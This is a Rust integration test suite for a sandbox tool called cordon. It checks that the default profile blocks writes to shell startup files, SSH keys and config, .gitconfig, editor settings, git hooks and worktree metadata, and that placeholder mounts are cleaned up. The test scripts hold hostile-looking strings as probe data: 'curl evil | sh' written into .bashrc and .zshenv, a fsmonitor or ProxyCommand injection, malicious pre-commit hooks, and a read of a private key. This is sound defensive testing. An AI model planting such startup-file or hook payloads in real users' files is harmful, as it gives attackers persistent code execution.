//! What the default profile protects without being asked, tested against the real namespace
//! layer: each write is attempted inside the sandbox, and its effect checked from outside.

mod common;

use std::fs;
use std::path::Path;
use std::process::Command;

use common::{lines, stderr, Tree};

/// `cordon run [pre...] -- python3 -c PROBE+script` with `dir` as the working directory.
fn py_in(tree: &Tree, dir: &Path, pre: &[&str], script: &str) -> std::process::Output {
    let mut cmd = tree.py_command(pre, script);
    cmd.current_dir(dir);
    cmd.output().expect("spawn cordon")
}

fn git(dir: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .status()
        .expect("git is required by these tests");
    assert!(status.success(), "git {args:?}");
}

#[test]
fn with_cwd_home_startup_files_are_read_only_and_credentials_hidden() {
    require_userns!();
    let tree = Tree::new();
    let home = &tree.home;
    fs::write(home.join(".bashrc"), "original bashrc\n").unwrap();
    fs::write(home.join(".gitconfig"), "[user]\n").unwrap();
    fs::create_dir(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_x"), "PRIVATE KEY\n").unwrap();
    let out = py_in(
        &tree,
        home,
        &[],
        r##"
home = os.environ["HOME"]
print(attempt(lambda: open(home + "/.bashrc", "a").write("curl evil | sh\n")))
print(attempt(lambda: open(home + "/.gitconfig", "w").write("[core]\nfsmonitor = evil\n")))
print(sorted(os.listdir(home + "/.ssh")))
print(attempt(lambda: open(home + "/.ssh/id_x").read()))
print(attempt(lambda: open(home + "/.ssh/config", "w").write("ProxyCommand evil\n")))
print(attempt(lambda: open(home + "/notes.txt", "w").write("kept")))
"##,
    );
    assert_eq!(
        lines(&out),
        ["EROFS", "EROFS", "[]", "ENOENT", "EROFS", "OK"],
        "{}",
        stderr(&out)
    );
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        fs::read_to_string(home.join(".bashrc")).unwrap(),
        "original bashrc\n"
    );
    assert_eq!(
        fs::read_to_string(home.join(".gitconfig")).unwrap(),
        "[user]\n"
    );
    assert_eq!(
        fs::read_to_string(home.join(".ssh/id_x")).unwrap(),
        "PRIVATE KEY\n"
    );
    assert!(!home.join(".ssh/config").exists());
    assert_eq!(fs::read_to_string(home.join("notes.txt")).unwrap(), "kept");
}

#[test]
fn editor_configuration_and_hooks_cannot_be_written_or_created_in_the_workspace() {
    require_userns!();
    let tree = Tree::new();
    let cwd = &tree.cwd;
    fs::create_dir(cwd.join(".vscode")).unwrap();
    fs::write(cwd.join(".vscode/settings.json"), "{}\n").unwrap();
    // `.husky` exists; `.git`, `.devcontainer` and `.claude` do not: a missing one cannot be
    // created either (a placeholder stands there for the run).
    fs::create_dir(cwd.join(".husky")).unwrap();
    fs::write(cwd.join(".envrc"), "export A=1\n").unwrap();
    let out = tree.py(
        &[],
        r##"
print(attempt(lambda: open(".vscode/settings.json", "w").write('{"evil": 1}')))
print(attempt(lambda: open(".vscode/tasks.json", "w").write("{}")))
print(attempt(lambda: open(".husky/pre-commit", "w").write("#!/bin/sh\nevil\n")))
print(attempt(lambda: os.makedirs(".git/hooks")))
print(attempt(lambda: open(".envrc", "w").write("evil\n")))
print(attempt(lambda: open(".devcontainer/devcontainer.json", "w").write("{}")))
print(attempt(lambda: os.remove(".claude")))
print(attempt(lambda: os.rename(".git", "git-moved")))
print(attempt(lambda: open("src.txt", "w").write("work")))
print(attempt(lambda: os.mkdir("build")))
"##,
    );
    assert_eq!(
        lines(&out),
        // A missing `.git` is an empty read-only directory, the other missing names empty
        // read-only files, each a mount point (which cannot be removed or renamed).
        ["EROFS", "EROFS", "EROFS", "EROFS", "EROFS", "ENOTDIR", "EBUSY", "EBUSY", "OK", "OK"],
        "{}",
        stderr(&out)
    );
    assert_eq!(
        fs::read_to_string(cwd.join(".vscode/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(!cwd.join(".vscode/tasks.json").exists());
    assert!(!cwd.join(".husky/pre-commit").exists());
    // The placeholders are gone again: nothing of the run is left in the person's tree.
    for name in [".git", ".devcontainer", ".claude", "git-moved"] {
        assert!(fs::symlink_metadata(cwd.join(name)).is_err(), "{name} left");
    }
    assert_eq!(
        fs::read_to_string(cwd.join(".envrc")).unwrap(),
        "export A=1\n"
    );
    assert_eq!(fs::read_to_string(cwd.join("src.txt")).unwrap(), "work");
    assert!(cwd.join("build").is_dir());
}

#[test]
fn a_worktrees_gitdir_target_and_common_directory_are_read_only() {
    require_userns!();
    let tree = Tree::new();
    let main = tree.cwd.join("main");
    fs::create_dir(&main).unwrap();
    git(&main, &["init", "-q"]);
    git(&main, &["commit", "-q", "--allow-empty", "-m", "first"]);
    git(&main, &["worktree", "add", "-q", "../wt"]);
    let wt = tree.cwd.join("wt");
    let gitdir = main.join(".git/worktrees/wt");
    assert!(fs::read_to_string(wt.join(".git"))
        .unwrap()
        .starts_with("gitdir:"));
    let head = fs::read_to_string(gitdir.join("HEAD")).unwrap();
    // The worktree is the working directory; its parent (holding the main repository, whose
    // `.git` is not at the top of a writable root) is writable too.
    let workspace = tree.cwd.display().to_string();
    let script = format!(
        r##"
print(attempt(lambda: open({head:?}, "w").write("ref: refs/heads/evil\n")))
print(attempt(lambda: open({hook:?}, "w").write("#!/bin/sh\nevil\n")))
print(attempt(lambda: open(".git", "w").write("gitdir: /tmp/evil\n")))
print(attempt(lambda: open({file:?}, "w").write("work")))
print(attempt(lambda: open("in-worktree.txt", "w").write("work")))
"##,
        head = gitdir.join("HEAD").display().to_string(),
        hook = main.join(".git/hooks/pre-commit").display().to_string(),
        file = main.join("file.txt").display().to_string(),
    );
    let out = py_in(&tree, &wt, &["-w", &workspace], &script);
    assert_eq!(
        lines(&out),
        ["EROFS", "EROFS", "EROFS", "OK", "OK"],
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read_to_string(gitdir.join("HEAD")).unwrap(), head);
    assert!(!main.join(".git/hooks/pre-commit").exists());
    assert!(fs::read_to_string(wt.join(".git"))
        .unwrap()
        .starts_with("gitdir:"));
    assert_eq!(fs::read_to_string(main.join("file.txt")).unwrap(), "work");
    assert_eq!(
        fs::read_to_string(wt.join("in-worktree.txt")).unwrap(),
        "work"
    );
}

fn profile(tree: &Tree, text: &str) -> String {
    let path = tree.root.join("profile.toml");
    fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[test]
fn unprotect_lifts_exactly_the_entry_it_names() {
    require_userns!();
    let tree = Tree::new();
    let cwd = &tree.cwd;
    for dir in [".vscode", ".idea"] {
        fs::create_dir(cwd.join(dir)).unwrap();
        fs::write(cwd.join(dir).join("settings"), "original").unwrap();
    }
    let p = profile(
        &tree,
        "extends = \"workspace-write\"\n[filesystem]\nunprotect = [\".vscode\"]\n",
    );
    let out = tree.py(
        &["-p", &p],
        r##"
print(attempt(lambda: open(".vscode/settings", "w").write("changed")))
print(attempt(lambda: open(".idea/settings", "w").write("changed")))
"##,
    );
    assert_eq!(lines(&out), ["OK", "EROFS"], "{}", stderr(&out));
    assert_eq!(
        fs::read_to_string(cwd.join(".vscode/settings")).unwrap(),
        "changed"
    );
    assert_eq!(
        fs::read_to_string(cwd.join(".idea/settings")).unwrap(),
        "original"
    );
    // --print-policy shows the result.
    let out = tree.run(&["-p", &p, "--print-policy"]);
    let policy: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let read_only = policy["filesystem"]["read_only"].to_string();
    assert!(!read_only.contains(".vscode"), "{read_only}");
    assert!(
        read_only.contains(&format!("{}/.idea", cwd.display())),
        "{read_only}"
    );
}

#[test]
fn lifting_what_is_not_protected_is_an_error_naming_it() {
    let tree = Tree::new();
    for (text, named) in [
        (
            "extends = \"workspace-write\"\n[filesystem]\nunprotect = [\"~/.nothing\"]\n",
            "\"~/.nothing\"",
        ),
        (
            "extends = \"read-only\"\n[filesystem]\nunprotect = [\"~/.ssh\"]\n",
            "\"~/.ssh\"",
        ),
    ] {
        let p = profile(&tree, text);
        let out = tree.run(&["-p", &p, "--", "touch", "ran"]);
        assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
        let err = stderr(&out);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.contains("filesystem.unprotect") && err.contains(named),
            "{err}"
        );
        assert!(!tree.cwd.join("ran").exists());
    }
}

#[test]
fn a_protected_path_through_a_link_in_a_writable_root_is_refused() {
    let tree = Tree::new();
    let real = tree.outside.join("dotgit");
    fs::create_dir(&real).unwrap();
    std::os::unix::fs::symlink(&real, tree.cwd.join(".git")).unwrap();
    let out = tree.run(&["--", "touch", "ran"]);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("protected .git") && err.contains("unprotect"),
        "{err}"
    );
    assert!(!tree.cwd.join("ran").exists());
    // Harmless counterpart: without the link the same run works.
    fs::remove_file(tree.cwd.join(".git")).unwrap();
    let out = tree.run(&["--", "touch", "ran"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(tree.cwd.join("ran").exists());
}

#[test]
fn without_user_namespaces_the_protections_are_reported_downgrades() {
    let tree = Tree::new();
    for dir in [".vscode", ".git", ".husky"] {
        fs::create_dir(tree.cwd.join(dir)).unwrap();
    }
    fs::write(tree.cwd.join(".vscode/settings.json"), "{}").unwrap();
    let mut cmd = tree.cordon();
    cmd.current_dir(&tree.cwd).args([
        "run",
        "--json",
        "--",
        "sh",
        "-c",
        "echo changed > .vscode/settings.json",
    ]);
    let out = common::without_userns(&cmd).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let downgrades = value["sandbox"]["downgrades"].to_string();
    for entry in [".vscode", ".git", ".husky"] {
        let expected = format!("read_only:{}", tree.cwd.join(entry).display());
        assert!(downgrades.contains(&expected), "{expected} not in {value}");
    }
    assert!(!value["sandbox"]["layers"].to_string().contains("namespace"));
    // The downgrade is real: Landlock alone cannot keep the file from being written.
    assert_eq!(
        fs::read_to_string(tree.cwd.join(".vscode/settings.json")).unwrap(),
        "changed\n"
    );
}

#[test]
fn git_works_in_a_subdirectory_of_a_repository_that_is_the_writable_root() {
    require_userns!();
    let tree = Tree::new();
    git(&tree.cwd, &["init", "-q"]);
    fs::write(tree.cwd.join("tracked.txt"), "v1\n").unwrap();
    git(&tree.cwd, &["add", "tracked.txt"]);
    git(&tree.cwd, &["commit", "-q", "-m", "first"]);
    let sub = tree.cwd.join("sub");
    fs::create_dir(&sub).unwrap();
    // In `sub` (the only writable root) there is no `sub/.git` to protect; git finds the
    // repository above, which lies outside every writable root and so is read-only anyway.
    let mut cmd = tree.cordon();
    cmd.current_dir(&sub).args([
        "run",
        "--",
        "sh",
        "-c",
        "git rev-parse --show-toplevel && git log --format=%s",
    ]);
    let out = cmd.output().unwrap();
    assert_eq!(
        lines(&out),
        [tree.cwd.display().to_string(), "first".to_owned()],
        "{}",
        stderr(&out)
    );
    assert!(!sub.join(".git").exists(), "nothing made in the workspace");
}

#[test]
fn the_hooks_path_and_submodule_git_files_the_repository_names_are_read_only() {
    require_userns!();
    let tree = Tree::new();
    let cwd = &tree.cwd;
    fs::create_dir_all(cwd.join(".git/modules/lib")).unwrap();
    fs::write(
        cwd.join(".git/config"),
        "[core]\n\tbare = false\n\thooksPath = \"scripts/hooks\"\n",
    )
    .unwrap();
    fs::create_dir_all(cwd.join("scripts/hooks")).unwrap();
    fs::write(
        cwd.join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://example.invalid/lib\n",
    )
    .unwrap();
    fs::create_dir_all(cwd.join("vendor/lib")).unwrap();
    fs::write(
        cwd.join("vendor/lib/.git"),
        "gitdir: ../../.git/modules/lib\n",
    )
    .unwrap();
    let out = tree.py(
        &[],
        r##"
print(attempt(lambda: open("scripts/hooks/pre-commit", "w").write("#!/bin/sh\nevil\n")))
print(attempt(lambda: open("vendor/lib/.git", "w").write("gitdir: /tmp/evil\n")))
print(attempt(lambda: os.rename("vendor/lib", "vendor/moved")))
print(attempt(lambda: open("scripts/build.sh", "w").write("work")))
print(attempt(lambda: open("vendor/lib/code.c", "w").write("work")))
"##,
    );
    assert_eq!(
        lines(&out),
        ["EROFS", "EROFS", "EBUSY", "OK", "OK"],
        "{}",
        stderr(&out)
    );
    assert!(!cwd.join("scripts/hooks/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(cwd.join("vendor/lib/.git")).unwrap(),
        "gitdir: ../../.git/modules/lib\n"
    );
    assert_eq!(
        fs::read_to_string(cwd.join("scripts/build.sh")).unwrap(),
        "work"
    );
    assert_eq!(
        fs::read_to_string(cwd.join("vendor/lib/code.c")).unwrap(),
        "work"
    );
}

/// Runs in one workspace at the same time all start, share the placeholders of the missing
/// protected paths (none of them can create one), and the last to finish removes them.
#[test]
fn concurrent_runs_in_one_workspace_share_the_placeholders() {
    require_userns!();
    let tree = Tree::new();
    for round in 0..3 {
        let children: Vec<_> = (0..8)
            .map(|i| {
                tree.cordon()
                    .args([
                        "run",
                        "--",
                        "sh",
                        "-c",
                        // Staggered ends, so that some runs finish while others still stand on
                        // the placeholders.
                        &format!(
                            "test -d .git && ! mkdir .git/hooks 2>/dev/null && \
                             ! touch .vscode/tasks.json 2>/dev/null && sleep 0.{i}"
                        ),
                    ])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .expect("spawn cordon")
            })
            .collect();
        for child in children {
            let out = child.wait_with_output().expect("wait for cordon");
            assert_eq!(
                out.status.code(),
                Some(0),
                "round {round}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        for name in [".git", ".vscode", ".husky", ".envrc"] {
            assert!(
                fs::symlink_metadata(tree.cwd.join(name)).is_err(),
                "round {round}: {name} left"
            );
        }
    }
}

/// A run killed outright (cordon and its helper by SIGKILL) cannot remove its placeholders;
/// the next run in the workspace takes them over and removes them. A directory of the
/// person's at a protected path is never removed, empty or not.
#[test]
fn a_killed_runs_placeholders_are_removed_by_the_next_run_and_the_persons_are_kept() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    require_userns!();
    let tree = Tree::new();
    let cwd = &tree.cwd;
    fs::create_dir(cwd.join(".idea")).unwrap(); // the person's own, empty
    let mut child = tree
        .cordon()
        .args(["run", "--", "sleep", "30"])
        .process_group(0)
        .spawn()
        .expect("spawn cordon");
    let placeholder = cwd.join(".vscode");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while fs::symlink_metadata(&placeholder).is_err() {
        assert!(std::time::Instant::now() < deadline, "no placeholder made");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // SAFETY: kill of the process group just spawned.
    assert_eq!(
        unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) },
        0
    );
    child.wait().unwrap();
    // Give the helper processes (dying with their parent) a moment to be gone.
    std::thread::sleep(std::time::Duration::from_millis(300));
    let left = fs::symlink_metadata(&placeholder).expect("a killed run leaves its placeholder");
    assert!(left.is_file() && left.len() == 0);
    assert_eq!(left.permissions().mode() & 0o7777, 0o444);
    let out = tree.run(&["--", "sh", "-c", "! touch .vscode/tasks.json 2>/dev/null"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    for name in [".vscode", ".git", ".cordon"] {
        assert!(fs::symlink_metadata(cwd.join(name)).is_err(), "{name} left");
    }
    assert!(cwd.join(".idea").is_dir(), "the person's .idea removed");
    assert_eq!(
        fs::metadata(cwd.join(".idea"))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777,
        0o755
    );
}

/// With the working directory at `$HOME`, a login shell's startup file that does not exist
/// cannot be created (a new `~/.bash_profile` takes over the next login bash from `.profile`).
#[test]
fn with_cwd_home_a_missing_startup_file_cannot_be_created() {
    require_userns!();
    let tree = Tree::new();
    let home = &tree.home;
    fs::write(home.join(".profile"), "echo profile\n").unwrap();
    let out = py_in(
        &tree,
        home,
        &[],
        r##"
home = os.environ["HOME"]
print(attempt(lambda: open(home + "/.bash_profile", "w").write("curl evil | sh\n")))
print(attempt(lambda: open(home + "/.zshenv", "w").write("curl evil | sh\n")))
print(attempt(lambda: os.makedirs(home + "/.config/autostart")))
print(attempt(lambda: open(home + "/.profile", "a").write("evil\n")))
print(attempt(lambda: open(home + "/project.txt", "w").write("kept")))
"##,
    );
    assert_eq!(
        lines(&out),
        // `~/.config` did not exist either: its placeholder (an empty file) stops the mkdir.
        ["EROFS", "EROFS", "ENOTDIR", "EROFS", "OK"],
        "{}",
        stderr(&out)
    );
    for name in [".bash_profile", ".zshenv", ".config/autostart"] {
        assert!(
            fs::symlink_metadata(home.join(name)).is_err(),
            "{name} left"
        );
    }
    assert_eq!(
        fs::read_to_string(home.join(".profile")).unwrap(),
        "echo profile\n"
    );
    assert_eq!(
        fs::read_to_string(home.join("project.txt")).unwrap(),
        "kept"
    );
}

/// A working directory inside a repository but not at its top has no `.git` of its own: the
/// placeholder there is an empty directory, which git passes over to find the repository
/// above (an empty `.git` file would be an invalid gitfile and stop git there).
#[test]
fn git_still_finds_the_repository_above_a_working_directory_without_git() {
    require_userns!();
    let tree = Tree::new();
    let repo = tree.outside.join("repo");
    let sub = repo.join("sub");
    fs::create_dir_all(&sub).unwrap();
    git(&repo, &["init", "-q"]);
    let mut cmd = tree.cordon();
    cmd.current_dir(&sub).env("GIT_CONFIG_NOSYSTEM", "1").args([
        "run",
        "--",
        "git",
        "rev-parse",
        "--show-toplevel",
    ]);
    let out = cmd.output().expect("spawn cordon");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(lines(&out), [repo.display().to_string()]);
    assert!(
        fs::symlink_metadata(sub.join(".git")).is_err(),
        "placeholder left"
    );
}

/// Root's run in another user's directory: inside the user namespace that directory's owner is
/// not mapped, so the helper cannot remove the placeholders it made there; the parent removes
/// them from outside once the run is over. The protection held during the run (checked inside),
/// nothing is left afterwards (checked outside), and the person's own entries stay.
#[test]
fn placeholders_in_another_users_directory_are_removed_after_the_run() {
    use std::os::unix::fs::MetadataExt;
    require_userns!();
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("SKIPPED: giving the directory to another user needs root");
        return;
    }
    let tree = Tree::new();
    let dir = tree.cwd.join("alices");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("notes.txt"), "mine\n").unwrap();
    // SAFETY: chown of a path we made, to nobody (65534), which this run does not map.
    let path = std::ffi::CString::new(dir.as_os_str().as_encoded_bytes()).unwrap();
    assert_eq!(unsafe { libc::chown(path.as_ptr(), 65534, 65534) }, 0);
    let out = py_in(
        &tree,
        &dir,
        &[],
        "print(attempt(lambda: os.mkdir('.git/hooks')), attempt(lambda: open('.vscode/x', 'w')))",
    );
    assert_eq!(common::stdout(&out), "EROFS ENOTDIR\n", "{}", stderr(&out));
    let mut left: Vec<String> = fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["notes.txt"]);
    assert_eq!(fs::metadata(&dir).unwrap().uid(), 65534);
    assert_eq!(fs::read_to_string(dir.join("notes.txt")).unwrap(), "mine\n");
}
